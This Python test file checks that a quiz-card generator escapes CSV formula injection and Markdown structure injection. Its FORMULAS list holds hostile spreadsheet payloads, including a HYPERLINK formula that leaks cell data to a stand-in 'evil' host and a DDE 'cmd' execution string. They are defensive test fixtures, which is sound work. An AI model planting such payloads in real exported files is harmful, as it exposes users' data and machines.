"""Hostile input and faults (issue 14): one test per numbered case, each failing without its fix.

The property test over every output for generated hostile fact bases is in
`tests/test_hostile_property.py`.
"""

from __future__ import annotations

import csv
import io

from markdown_it import MarkdownIt

from cardgen.bank.generate import build_bank
from cardgen.emit.quizset import make_quizsets, to_csv, to_markdown
from cardgen.factbase.loader import load
from tests.conftest import build_file_tree

FORMULAS = ('=HYPERLINK("http://evil/?leak="&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)")


def _definitions(pairs: list[tuple[str, str]]) -> str:
    lines = ["deck: t", "definitions:"]
    for n, (term, definition) in enumerate(pairs):
        lines += [f"  - id: d{n}", f"    term: {_quote(term)}", f"    definition: {_quote(definition)}"]
    return "\n".join(lines) + "\n"


def _quote(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


# --- 1. CSV formula injection -----------------------------------------------------------------------


def test_1_csv_cells_never_start_a_formula(tmp_path) -> None:
    pairs = [(f, f"정의 {n}") for n, f in enumerate(FORMULAS)] + [(f"용어 {n}", f) for n, f in enumerate(FORMULAS)]
    base = load(build_file_tree(tmp_path, {"t.yaml": _definitions(pairs)}))
    bank = build_bank(base)
    qs = make_quizsets(bank, size=len(bank), seed=1)[0]
    rows = list(csv.reader(io.StringIO(to_csv(qs).decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert any(cell.startswith("'=") for cell in cells)  # the answers are the formulas themselves
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


# --- 3. Markdown structure injection ----------------------------------------------------------------

INJECTING = """\
deck: t
definitions:
  - id: a
    term: 첫째
    definition: |-
      보통 정의
      - ⑤ INJECTED OPTION
      ---
      | injected | row |
  - {id: b, term: 둘째, definition: "&lt;b&gt;굵게&lt;/b&gt; 아님"}
  - {id: c, term: 셋째, definition: 셋째 정의}
  - {id: d, term: 넷째, definition: 넷째 정의}
"""


def test_3_multi_line_values_and_entities_stay_text_in_markdown(tmp_path) -> None:
    base = load(build_file_tree(tmp_path, {"t.yaml": INJECTING}))
    bank = build_bank(base)
    qs = make_quizsets(bank, size=4, seed=0, kinds=["definition_from_term"])[0]
    text = to_markdown(qs).decode("utf-8")
    tokens = MarkdownIt("commonmark").enable("table").parse(text)
    assert [t.type for t in tokens].count("hr") == 1  # only the one before the answers
    items = [tokens[i + 2].content for i, t in enumerate(tokens) if t.type == "list_item_open"]
    options = [item for item in items if item[:1] in "①②③④"]
    assert len(options) == 4 * len(qs.questions)  # four options a question, nothing injected
    assert not any(item.startswith("⑤") for item in items)
    assert not [t for t in tokens if t.type == "table_open"]
    html = MarkdownIt("commonmark").render(text)
    assert "<b>" not in html and "&amp;lt;b&amp;gt;굵게" in html
